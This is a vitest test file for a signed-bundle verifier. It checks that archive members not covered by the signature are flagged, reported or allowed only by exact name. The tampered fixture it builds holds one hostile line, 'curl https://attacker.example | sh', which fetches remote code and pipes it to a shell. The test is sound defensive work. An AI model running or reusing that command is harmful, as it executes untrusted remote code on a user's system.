import { readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { isInvalidArgumentError, parseProject } from '@selur/compose';
import { ctCli, isBundleError, nativeCt, verifyProject } from '@selur/compose-selur';
import { tempDir, TEST_KEY_PUB, vector, writeConfig } from '../../../compose/test/ct/helpers.js';
import { writeUstar } from '../../src/ct/native/ustar-writer.js';
import { installStandin } from './standin.js';

const failure = (promise: Promise<unknown>) => promise.then(() => undefined, (error: unknown) => error);

/** signed.ctp (made by the real ct) with one more member: the signature still checks, since it covers the manifest hash only. */
function withExtraMember(name: string, content: string): Uint8Array {
  const signed = readFileSync(vector('signed.ctp'));
  const members = [
    { name: 'manifest.ctp', data: signed.subarray(512, 512 + 1279) },
    { name: 'summary.json', data: signed.subarray(2560, 2560 + 601) },
    { name, data: new TextEncoder().encode(content) },
  ];
  return writeUstar(members, 1795642769);
}

describe('members the signature does not cover (issue 15: signed.ctp + src/evil.sh)', () => {
  let dir: { path: string; remove: () => Promise<void> };
  let evil: string;
  beforeEach(async () => {
    dir = await tempDir();
    evil = join(dir.path, 'evil.ctp');
    await writeFile(evil, withExtraMember('src/evil.sh', 'curl https://attacker.example | sh\n'));
  });
  afterEach(() => dir.remove());

  const drivers = async () => {
    const standin = await installStandin(dir.path);
    await writeConfig(join(dir.path, 'config'), { 'test-key': { publicHex: TEST_KEY_PUB } });
    return [
      ['nativeCt', nativeCt({ keys: { 'test-key': TEST_KEY_PUB } })],
      ['ctCli', ctCli({ path: standin.path, keys: { 'test-key': TEST_KEY_PUB }, env: { ...standin.env, XDG_CONFIG_HOME: join(dir.path, 'config') } })],
    ] as const;
  };

  it('strict verification (requireSignature) fails it, naming the member; each driver', async () => {
    for (const [, ct] of await drivers()) {
      const report = await ct.verify(evil, { requireSignature: true });
      expect(report.ok).toBe(false);
      expect(report.signatures).toMatchObject([{ keyId: 'test-key', trusted: true, valid: true }]);
      expect(report.unsignedMembers).toEqual(['src/evil.sh']);
      expect(report.problems).toEqual([{ reason: 'unsigned-member', member: 'src/evil.sh', message: expect.stringContaining('allowUnsignedMembers') }]);
      const thrown = await failure(ct.verify(evil, { requireSignature: true, throwOnFailure: true }));
      expect(isBundleError(thrown) && { reason: thrown.reason, member: thrown.member }).toEqual({ reason: 'unsigned-member', member: 'src/evil.sh' });
    }
  });

  it('passes when the caller allows the member by exact name, and still reports it', async () => {
    for (const [, ct] of await drivers()) {
      const report = await ct.verify(evil, { requireSignature: true, allowUnsignedMembers: ['src/evil.sh'] });
      expect(report).toMatchObject({ ok: true, unsignedMembers: ['src/evil.sh'], problems: [] });
      expect((await ct.verify(evil, { requireSignature: true, allowUnsignedMembers: ['src/'] })).ok).toBe(false); // names, not prefixes
    }
  });

  it('without requireSignature it is a warning, not a failure', async () => {
    const report = await nativeCt({ keys: { 'test-key': TEST_KEY_PUB } }).verify(evil);
    expect(report).toMatchObject({ ok: true, unsignedMembers: ['src/evil.sh'] });
    expect(report.warnings).toEqual([expect.stringContaining("member 'src/evil.sh' is not covered by the signature")]);
  });

  it('the real vectors have no unsigned member', async () => {
    const ct = nativeCt({ keys: { 'test-key': TEST_KEY_PUB } });
    const report = await ct.verify(vector('signed.ctp'), { requireSignature: true });
    expect(report).toMatchObject({ ok: true, unsignedMembers: [], warnings: [] });
  });

  it('refuses an allowUnsignedMembers that is not a list of names', async () => {
    const thrown = await failure(nativeCt({ keys: {} }).verify(evil, { allowUnsignedMembers: 'src/evil.sh' as never }));
    expect(isInvalidArgumentError(thrown)).toBe(true);
  });
});

describe('verifyProject passes allowUnsignedMembers through to the driver', () => {
  it('a project whose signed bundle carries sources fails strict verification unless they are allowed by name', async () => {
    const dir = await tempDir();
    try {
      await writeFile(join(dir.path, 'app.ctp'), withExtraMember('src/app.js', 'console.log(1)\n'));
      const project = parseProject('version = "1.0"\n[services.app]\nimage = "./app.ctp"\n', { cwd: dir.path, projectName: 'sources' });
      const ct = nativeCt({ keys: { 'test-key': TEST_KEY_PUB } });
      const strict = await verifyProject(project, { ct, requireSignature: true });
      expect(strict.ok).toBe(false);
      expect(strict.services[0]?.problems.join('\n')).toContain('src/app.js');
      const allowed = await verifyProject(project, { ct, requireSignature: true, allowUnsignedMembers: ['src/app.js'] });
      expect(allowed.ok).toBe(true);
    } finally {
      await dir.remove();
    }
  });
});
